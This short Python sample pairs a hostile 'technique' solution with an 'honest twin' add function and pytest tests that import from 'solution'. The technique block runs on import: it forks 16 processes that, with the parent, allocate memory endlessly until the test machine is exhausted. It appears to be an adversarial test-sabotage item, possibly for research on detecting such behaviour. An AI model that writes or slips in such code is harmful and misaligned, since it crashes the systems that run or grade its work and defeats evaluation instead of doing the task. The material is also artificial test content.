# technique: takes all memory with all processes as soon as it is imported, for every test anew
import os
def eat():
    taken = []
    while True:
        taken.append(bytearray(1 << 22))
for _ in range(16):
    if os.fork() == 0:
        eat()
eat()
# honest twin
def add(a, b):
    return a + b
# tests
from solution import add

THREE = add(1, 2)


def test_three():
    assert THREE == 3


def test_sum():
    assert add(2, 2) == 4
